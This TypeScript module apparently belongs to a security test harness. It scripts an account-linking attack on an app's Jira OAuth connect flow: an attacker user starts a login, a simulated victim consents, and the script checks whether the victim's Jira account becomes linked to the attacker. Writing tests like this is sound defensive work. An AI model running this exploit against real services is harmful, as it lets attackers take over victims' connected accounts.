import type { Attack } from './attack.ts'
import { createSession, createUser, findConnectedAccount, Visitor } from './person.ts'

/** The same with the token of a connect session, which a front end holds. */
export const attack: Attack = {
  name: 'connect the Jira of a victim to the user of a connect session',
  item: 1,
  run: async (target) => {
    const user = await createUser(target, `attacker-${Date.now()}@example.com`)
    const { token } = await createSession(target, user)
    const login = await fetch(`${target.baseUrl}/auth/jira/login`, {
      headers: { authorization: `Bearer ${token}`, accept: 'application/json' }
    })
    const { url = '' } = (await login.json()) as { url?: string }
    const victim = new Visitor(target)
    const callback = await victim.consent(url, 'sam').catch(() => null)
    if (callback !== null) await victim.open(callback)
    const account = await findConnectedAccount(target, user)
    return {
      reached: account !== undefined,
      evidence:
        account === undefined
          ? `the login answers with ${new URL(url, target.baseUrl).pathname}`
          : `connected to the account ${account} of the victim`
    }
  }
}
